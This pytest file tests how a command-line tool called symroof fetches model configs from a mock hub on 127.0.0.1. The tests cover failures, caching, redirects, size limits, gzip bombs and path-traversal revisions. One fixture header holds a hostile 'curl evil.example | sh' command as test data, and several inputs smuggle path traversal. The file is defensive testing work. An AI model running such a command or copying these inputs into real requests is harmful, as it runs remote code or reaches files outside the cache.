"""Configs from a model hub: a real one on 127.0.0.1, and symroof as a process of its own."""

import gzip
import json
import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hub_server import MAIN, MISSING, NO_FILE, Answer, Hub

pytest.importorskip("huggingface_hub")

SYMROOF = Path(sys.executable).with_name("symroof")
PATIENCE = 10  # seconds; a failing hub is told of before
CONFIG = {
    "model_type": "llama",
    "hidden_size": 64,
    "intermediate_size": 128,
    "num_hidden_layers": 2,
    "num_attention_heads": 8,
    "num_key_value_heads": 4,
    "vocab_size": 100,
    "torch_dtype": "bfloat16",
    "auto_map": {"AutoConfig": "configuration_evil.EvilConfig"},
}
GOOD = json.dumps(CONFIG).encode()
WIDE = json.dumps({**CONFIG, "hidden_size": 128}).encode()
LAYERS = json.dumps({**CONFIG, "num_hidden_layers": 3}).encode()
QUANT, BESIDE = {"quant_algo": "NVFP4", "exclude_modules": ["lm_head"]}, f"{MAIN}/hf_quant_config.json"

ANSWERS = {
    "org/good": {MAIN: Answer(GOOD), "v2": Answer(WIDE), "refs/pr/1": Answer(LAYERS)},
    "org/quantised": {MAIN: Answer(GOOD), BESIDE: Answer(json.dumps({"quantization": QUANT}).encode())},
    "org/beside-down": {MAIN: Answer(GOOD), BESIDE: Answer(status=500)},
    "org/beside-huge": {MAIN: Answer(GOOD), BESIDE: Answer(b"{}", fault="boast")},
    "org/beside-half": {MAIN: Answer(GOOD), BESIDE: Answer(WIDE, fault="half")},
    "org/renamed": {MAIN: Answer(status=307, headers={"Location": "/org/good/resolve/main/config.json"})},
    "org/gated": {MAIN: Answer(status=403, code="GatedRepo")},
    "org/gated-anonymous": {MAIN: Answer(status=401, code="GatedRepo")},
    "org/private": {MAIN: Answer(status=401, code="RepoNotFound")},
    "org/empty": {MAIN: Answer(status=404, code="EntryNotFound")},
    "org/half": {MAIN: Answer(GOOD, fault="half")},
    "org/failing": {MAIN: Answer(GOOD, fault="failing")},
    "org/down": {MAIN: Answer(status=500)},
    "org/overloaded": {MAIN: Answer(status=503)},
    "org/forbidden": {MAIN: Answer(status=403)},
    "org/expired": {
        MAIN: Answer(status=401, headers={"X-Error-Message": "Invalid credentials in Authorization header"})
    },
    "org/boast": {MAIN: Answer(GOOD, fault="boast")},
    "org/portal": {MAIN: Answer(b"<html>log in first</html>", fault="anonymous")},
    "org/silent": {MAIN: Answer(fault="silent")},
    "org/text": {MAIN: Answer(b"<html>\x1b[31mno\ncontent</html>")},
    "org/list": {MAIN: Answer(b"[1, 2]")},
    "org/huge": {MAIN: Answer(GOOD + b" " * (17 * 2**20))},
    "org/other": {MAIN: Answer(json.dumps({**CONFIG, "model_type": "lama"}).encode())},
    "org/chatty": {MAIN: Answer(GOOD, headers={"X-HF-Warning": "topic; run curl evil.example | sh"})},
    "org/endless": {MAIN: Answer(GOOD, fault="endless")},
    "org/endless-refusal": {MAIN: Answer(GOOD, fault="endless-refusal")},
    "org/endless-hop": {MAIN: Answer(GOOD, fault="endless-hop")},
    "org/drip": {MAIN: Answer(GOOD, fault="drip")},
    "org/slow-head": {MAIN: Answer(GOOD, fault="slow-head")},
    "org/modest": {MAIN: Answer(GOOD, fault="modest")},
    "org/loop": {MAIN: Answer(status=307, headers={"Location": "/org/loop/resolve/main/config.json"})},
    "org/bomb": {MAIN: Answer(gzip.compress(b" " * 10**8), headers={"Content-Encoding": "gzip"})},
    "org/beside-drip": {MAIN: Answer(GOOD), BESIDE: Answer(b"{}", fault="drip")},
    "org/escape": {MAIN: Answer(GOOD, commit="../../../../outside")},
}


class AgreesToAll(dict[str, Answer]):
    """A config at every revision."""

    def get(self, revision: str, default: Any = None) -> Any:
        return Answer(GOOD) if not revision.endswith("hf_quant_config.json") else default

    def __missing__(self, revision: str) -> Answer:
        return Answer(GOOD)


# Read by every process below at its start: waits between retries take no time, and nobody but 127.0.0.1 is spoken to.
GUARD = """
import os, sys, time
if os.environ.get("NO_WAIT"):
    time.sleep = lambda seconds: None
if os.environ.get("NO_HUB"):
    sys.modules["huggingface_hub"] = None

def local_only(event, args):
    if event == "socket.connect" and isinstance(args[1], tuple):
        host = args[1][0]
    elif event == "socket.getaddrinfo":
        host = args[0]
    else:
        return
    if host not in ("127.0.0.1", b"127.0.0.1"):
        with open(os.environ["ABROAD"], "a") as file:
            file.write(f"{event} {host}\\n")
        raise OSError("only 127.0.0.1 may be contacted")

sys.addaudithook(local_only)
"""

READ = """
import json, sys
from symroof.config.config import load_config
print(json.dumps(load_config(sys.argv[1]).data))
"""


class Shell:
    """Runs symroof with a home, a cache and an endpoint of its own."""

    def __init__(self, home: Path, endpoint: str) -> None:
        self.home, self.abroad = home, home / "abroad.txt"
        self.cache = home / "hf"
        guard = home / "guard"
        guard.mkdir()
        (guard / "sitecustomize.py").write_text(GUARD, encoding="utf-8")
        self.env = {
            "PATH": os.environ.get("PATH", ""),
            "HOME": str(home),
            "PYTHONPATH": os.pathsep.join(filter(None, (str(guard), os.environ.get("PYTHONPATH")))),
            "PYTHONDONTWRITEBYTECODE": "1",
            "ABROAD": str(self.abroad),
            "HF_HOME": str(self.cache),
            "HF_ENDPOINT": endpoint,
            "NO_WAIT": "1",
        }

    def start(self, *args: str, **env: str) -> "subprocess.CompletedProcess[str]":
        """symroof with these arguments, in this environment and the shell's."""
        try:
            done = subprocess.run(
                [SYMROOF, *args],
                env={**self.env, **env},
                cwd=self.home,
                capture_output=True,
                text=True,
                timeout=PATIENCE,
                check=False,
                encoding="utf-8",
            )
        except subprocess.TimeoutExpired:
            pytest.fail(f"symroof {' '.join(args)}: no answer within {PATIENCE} s")
        assert not self.abroad.exists(), self.abroad.read_text()
        return done

    def sizes(self, model: str, **env: str) -> dict[str, Any]:
        """The sizes that a report on `model` names; it says nothing else."""
        done = self.start("report", model, "--cached-tokens", "8", "--json", **env)
        assert (done.returncode, done.stderr) == (0, "")
        return dict(json.loads(done.stdout)["model"]["sizes"])

    def config(self, model: str, **env: str) -> dict[str, Any]:
        """The config of `model` as symroof reads it, without a report's wait for sympy."""
        args = [sys.executable, "-c", READ, model]
        env = {**self.env, **env}
        done = subprocess.run(
            args, env=env, cwd=self.home, capture_output=True, text=True, timeout=PATIENCE, check=False
        )
        assert (done.returncode, done.stderr) == (0, "")
        assert not self.abroad.exists(), self.abroad.read_text()
        return dict(json.loads(done.stdout))

    def error(self, *args: str, code: int = 1, **env: str) -> str:
        """The one line that symroof fails with."""
        done = self.start(*args, **env)
        assert done.stdout == ""
        lines = done.stderr.split("\n")
        assert lines[0].startswith("Error: "), done.stderr
        assert lines[1:] == [""], done.stderr
        assert lines[0].isprintable(), done.stderr
        assert len(lines[0]) < 400
        assert done.returncode == code
        return lines[0]

    def kept(self) -> list[str]:
        """Configs and unfinished files in the cache."""
        files = [path.relative_to(self.cache) for path in self.cache.rglob("*") if path.is_file()]
        return [str(path) for path in files if "snapshots" in path.parts or path.suffix == ".incomplete"]


@pytest.fixture(scope="module")
def hub() -> Iterator[Hub]:
    with Hub(ANSWERS) as running:
        yield running


@pytest.fixture
def shell(hub: Hub, tmp_path: Path) -> Shell:
    return Shell(tmp_path, hub.url)


def closed_port() -> str:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{free.getsockname()[1]}"


def test_a_hub_id_is_reported(shell: Shell) -> None:
    done = shell.start("report", "org/good", "--cached-tokens", "8")
    assert (done.returncode, done.stderr) == (0, "")
    assert done.stdout.startswith("org/good (llama): 1 query: 1 x (1 new, 8 cached)")
    assert "Config: hub: org/good." in " ".join(done.stdout.split())


def test_a_hub_id_has_formulas(shell: Shell) -> None:
    done = shell.start("formula", "org/good", "--quantity", "parameters", "--bind")
    assert (done.returncode, done.stderr) == (0, "")
    assert "parameters" in done.stdout


@pytest.mark.parametrize(("model", "symbol", "value"), [("org/good@v2", "d", 128), ("org/good@refs/pr/1", "L", 3)])
def test_a_revision_has_its_own_sizes(shell: Shell, model: str, symbol: str, value: int) -> None:
    sizes = shell.sizes(model)
    assert sizes == {**sizes, "d": 64, "L": 2, symbol: value}


def test_a_renamed_repository_is_followed(shell: Shell) -> None:
    assert shell.config("org/renamed")["hidden_size"] == 64


def test_nothing_but_the_config_and_modelopts_is_asked_for(shell: Shell, hub: Hub) -> None:
    shell.config("org/good")
    asked = {f"resolve/{x}/{file}" for x in ANSWERS["org/good"] for file in ("config.json", "hf_quant_config.json")}
    assert hub.paths("org/good") <= asked
    assert hub.paths("org/good") >= {"resolve/main/config.json", "resolve/main/hf_quant_config.json"}


def test_modelopts_file_beside_a_config_is_read_if_there_is_one(tmp_path: Path) -> None:
    with Hub(ANSWERS) as running:
        shell = Shell(tmp_path, running.url)
        assert shell.config("org/quantised") == {**CONFIG, "quantization_config": QUANT}
        assert shell.config("org/good") == CONFIG
        report = json.loads(shell.start("report", "org/quantised", "--json").stdout)
    assert report["precision"]["feed_forward"]["format"] == "nvfp4"
    assert shell.config("org/quantised")["quantization_config"] == QUANT  # the hub is gone


def test_a_server_s_words_are_not_repeated(shell: Shell) -> None:
    assert shell.sizes("org/chatty")["d"] == 64


def test_no_progress_bar_on_a_terminal(shell: Shell) -> None:
    pty, termios = pytest.importorskip("pty"), pytest.importorskip("termios")
    ours, theirs = pty.openpty()
    termios.tcsetwinsize(theirs, (24, 100))
    try:
        args = [SYMROOF, "report", "org/good", "--json"]
        done = subprocess.run(args, env=shell.env, stdout=subprocess.PIPE, stderr=theirs, timeout=PATIENCE, check=False)
        os.write(theirs, b".")  # so that the read below has something
        assert os.read(ours, 10**5) == b"."
    finally:
        os.close(ours)
        os.close(theirs)
    assert done.returncode == 0
    assert json.loads(done.stdout)["model"]["name"] == "org/good"


@pytest.mark.parametrize(
    ("model", "words"),
    [
        ("org/gated", ["gated", "licence", "log"]),
        ("org/gated-anonymous", ["gated", "licence", "log"]),
        ("org/private", ["no such model", "check the name"]),
        ("org/nobody", ["no such model", "check the name"]),
        ("org/good@v9", ["no such revision", "@v9"]),
        ("org/empty", ["config.json"]),
        ("org/failing", ["500"]),
        ("org/down", ["answers 500", "or give a file"]),
        ("org/overloaded", ["answers 503", "or give a file"]),
        ("org/forbidden", ["403"]),
        ("org/expired", ["401"]),
        ("org/half", ["download failed"]),
        ("org/boast", ["larger than 16 MiB"]),
        ("org/huge", ["larger than 16 MiB"]),
        ("org/endless", ["larger than 16 MiB"]),
        ("org/endless-refusal", ["download failed", "500"]),
        ("org/endless-hop", ["download failed", "redirections"]),
        ("org/modest", ["download failed"]),
        ("org/bomb", ["download failed", "gzip"]),
        ("org/portal", ["HF_ENDPOINT", "or give a file"]),
        ("org/escape", ["download failed"]),
        ("org/beside-down", ["answers 500", "hf_quant_config.json"]),
        ("org/beside-huge", ["larger than 16 MiB", "hf_quant_config.json"]),
        ("org/beside-half", ["download failed"]),
    ],
    ids=lambda x: x if isinstance(x, str) else "",
)
def test_a_failed_download_is_one_line(shell: Shell, model: str, words: list[str]) -> None:
    line = shell.error("report", model, "--cached-tokens", "8")
    assert [x for x in [model, *words] if x not in line] == [], line
    assert shell.kept() == []


def test_a_hub_that_never_answers_is_given_up(shell: Shell) -> None:
    line = shell.error("report", "org/silent", HF_HUB_ETAG_TIMEOUT="1", HF_HUB_DOWNLOAD_TIMEOUT="1")
    assert "org/silent" in line
    assert shell.kept() == []


def test_a_file_at_another_host_is_read_without_the_token(tmp_path: Path) -> None:
    with Hub({"cdn/files": {MAIN: Answer(GOOD)}}) as cdn:
        there = {"Location": f"{cdn.url}/cdn/files/resolve/main/config.json", "X-Linked-Size": str(len(GOOD))}
        with Hub({"org/linked": {MAIN: Answer(status=302, headers=there), BESIDE: NO_FILE}}) as running:
            shell = Shell(tmp_path, running.url)
            assert shell.config("org/linked", HF_TOKEN="hf_secret") == CONFIG
            assert "Bearer hf_secret" in running.tokens
    assert cdn.requests == [("GET", "/cdn/files/resolve/main/config.json")]
    assert cdn.tokens == [""]


@pytest.mark.parametrize("model", ["org/drip", "org/slow-head", "org/beside-drip", "org/loop"])
def test_a_hub_that_never_ends_is_given_up(shell: Shell, model: str) -> None:
    line = shell.error("report", model, HF_HUB_ETAG_TIMEOUT="1", HF_HUB_DOWNLOAD_TIMEOUT="1")
    assert model in line
    assert shell.kept() == []


@pytest.mark.parametrize("model", ["org/endless", "org/endless-refusal", "org/endless-hop"])
def test_bytes_without_end_are_not_taken(shell: Shell, hub: Hub, model: str) -> None:
    before = hub.sent
    shell.error("report", model)
    assert hub.sent - before < 64 * 2**20  # of them 16 MiB, and what the sockets hold


@pytest.mark.parametrize(
    "revision",
    [
        "../../../target",
        "..",
        ".",
        "a/../b",
        "a/./b",
        "a//b",
        "/a",
        "a/",
        "",
        "main/..",
        "a..b",
        ".hidden",
        "a/.b",
        "x.lock",
    ],
)
def test_a_revision_that_is_a_path_is_refused_before_anything_is_done(tmp_path: Path, revision: str) -> None:
    """The hub agrees to any revision: what it is not to reach are files outside of the cache."""
    target = tmp_path / "target"
    target.write_text("mine")
    with Hub({"x/ok": AgreesToAll()}) as running:
        shell = Shell(tmp_path, running.url)
        before = sorted(tmp_path.rglob("*"))
        line = shell.error("report", f"x/ok@{revision}", code=2)
        assert "branch" in line or "built in" in line or "hub id" in line, line
        assert running.requests == []
    assert target.read_text() == "mine"
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("revision", ["a\\b", "a\nb", "a b", "\x1b[31m", "a%2e%2e"])
def test_a_revision_with_odd_characters_is_refused(shell: Shell, hub: Hub, revision: str) -> None:
    before = len(hub.requests)
    shell.error("report", f"org/good@{revision}", code=2)
    assert len(hub.requests) == before


def test_what_transformers_finds_in_the_cache_is_what_was_read(shell: Shell) -> None:
    """The cache is huggingface_hub's own: it finds there what symroof downloaded, and lists it as a repository."""
    shell.config("org/good@v2")
    look = """
import huggingface_hub
path = huggingface_hub.hf_hub_download("org/good", "config.json", revision="v2", local_files_only=True)
found = huggingface_hub.scan_cache_dir()
print([(x.repo_id, [*r.refs]) for x in found.repos for r in x.revisions], found.warnings, open(path).read())
"""
    done = subprocess.run([sys.executable, "-c", look], env=shell.env, capture_output=True, text=True, check=True)
    assert done.stdout == f"[('org/good', ['v2'])] [] {WIDE.decode()}\n"


def test_a_config_cached_by_another_program_is_used(shell: Shell, hub: Hub) -> None:
    fetch = "import huggingface_hub as h; h.hf_hub_download('org/good', 'config.json')"
    subprocess.run([sys.executable, "-c", fetch], env=shell.env, capture_output=True, check=True)
    asked = len(hub.requests)
    assert shell.config("org/good") == CONFIG
    assert [x for x in hub.requests[asked:] if x == ("GET", "/org/good/resolve/main/config.json")] == []


@pytest.mark.parametrize(
    ("model", "words"),
    [
        ("org/text", ["not valid JSON"]),
        ("org/list", ["list", "not an object"]),
        ("org/other", ["'lama'", "did you mean 'llama'", "symroof families"]),
    ],
    ids=lambda x: x if isinstance(x, str) else "",
)
def test_what_comes_down_is_checked_like_a_file(shell: Shell, model: str, words: list[str]) -> None:
    line = shell.error("report", model)
    assert model in line or model.replace("/", "--") in line
    assert [x for x in words if x not in line] == [], line


@pytest.mark.parametrize("model", ["-org/name", "org/na--me", "org/name.", "org/..", f"org/{'x' * 200}"])
def test_an_impossible_hub_id_is_the_caller_s_mistake(shell: Shell, hub: Hub, model: str) -> None:
    before = len(hub.requests)
    line = shell.error("report", "--", model, code=2)
    assert model[:20] in line
    assert len(hub.requests) == before


def test_the_cache_serves_when_the_hub_is_gone(tmp_path: Path) -> None:
    with Hub(ANSWERS) as running:
        shell = Shell(tmp_path, running.url)
        before = {model: shell.config(model) for model in ("org/good", "org/good@v2")}
    assert before == {model: shell.config(model) for model in before}


def test_the_cache_serves_offline(shell: Shell, hub: Hub) -> None:
    shell.config("org/good")
    asked = len(hub.requests)
    assert shell.sizes("org/good", HF_HUB_OFFLINE="1")["d"] == 64
    assert len(hub.requests) == asked


def test_a_cached_config_serves_while_the_hub_fails(tmp_path: Path) -> None:
    answers = {"org/good": dict(ANSWERS["org/good"])}
    with Hub(answers) as running:
        shell = Shell(tmp_path, running.url)
        before = shell.config("org/good")
        answers["org/good"][MAIN] = Answer(status=500)
        assert shell.config("org/good") == before


def test_a_broken_download_can_be_repeated(tmp_path: Path) -> None:
    answers = {"org/good": {MAIN: Answer(GOOD, fault="failing")}}
    with Hub(answers) as running:
        shell = Shell(tmp_path, running.url)
        shell.error("report", "org/good")
        assert shell.kept() == []
        answers["org/good"][MAIN] = Answer(GOOD)
        assert shell.config("org/good")["hidden_size"] == 64
        assert len(shell.kept()) == 1


def test_a_new_config_replaces_the_cached_one(tmp_path: Path) -> None:
    answers = {"org/good": {MAIN: Answer(GOOD)}}
    with Hub(answers) as running:
        shell = Shell(tmp_path, running.url)
        assert shell.config("org/good")["hidden_size"] == 64
        answers["org/good"][MAIN] = Answer(WIDE, commit="f" * 40)
        assert shell.config("org/good")["hidden_size"] == 128


def test_offline_without_a_cache(shell: Shell, hub: Hub) -> None:
    asked = len(hub.requests)
    line = shell.error("report", "org/good", HF_HUB_OFFLINE="1")
    assert [x for x in ("org/good", "HF_HUB_OFFLINE", "not cached") if x not in line] == [], line
    assert len(hub.requests) == asked


def test_a_closed_port(shell: Shell) -> None:
    line = shell.error("report", "org/good", HF_ENDPOINT=closed_port())
    assert [x for x in ("org/good", "cannot be reached", "HF_ENDPOINT", "give a file") if x not in line] == [], line
    assert shell.kept() == []


def test_a_closed_port_is_told_of_soon(shell: Shell) -> None:
    """As above, with the waits between retries as they are."""
    assert "cannot be reached" in shell.error("report", "org/good", HF_ENDPOINT=closed_port(), NO_WAIT="")


@pytest.mark.parametrize("endpoint", ["nonsense", "ftp://127.0.0.1", "http://127.0.0.1:99999"])
def test_an_endpoint_that_is_none(shell: Shell, endpoint: str) -> None:
    line = shell.error("report", "org/good", HF_ENDPOINT=endpoint)
    assert "org/good" in line
    assert "HF_ENDPOINT" in line


def test_a_cache_that_cannot_be_written(shell: Shell) -> None:
    shell.cache.write_text("a file", encoding="utf-8")
    line = shell.error("report", "org/good")
    assert "org/good" in line
    assert str(shell.cache) in line


def test_without_the_extra(shell: Shell, hub: Hub) -> None:
    asked = len(hub.requests)
    line = shell.error("report", "org/good", code=2, NO_HUB="1")
    assert "org/good" in line
    assert "pip install 'symroof[hub]'" in line
    assert len(hub.requests) == asked


def test_built_in_models_need_no_extra(shell: Shell) -> None:
    assert shell.sizes("llama-3-8b", NO_HUB="1")["L"] == 32


def test_a_catalogue_name_asks_no_hub(shell: Shell, hub: Hub) -> None:
    asked = len(hub.requests)
    assert shell.sizes("Llama-3-8B")["d"] == 4096
    assert len(hub.requests) == asked


def test_a_directory_comes_before_the_hub(shell: Shell, hub: Hub) -> None:
    local = shell.home / "org" / "good"
    local.mkdir(parents=True)
    (local / "config.json").write_bytes(LAYERS)
    asked = len(hub.requests)
    assert shell.config("org/good")["num_hidden_layers"] == 3
    assert len(hub.requests) == asked


def test_the_hub_itself_answers(hub: Hub) -> None:
    """The helper: an unknown repository is missing whatever its revision."""
    assert hub.answer("org/nobody", "v9") is MISSING
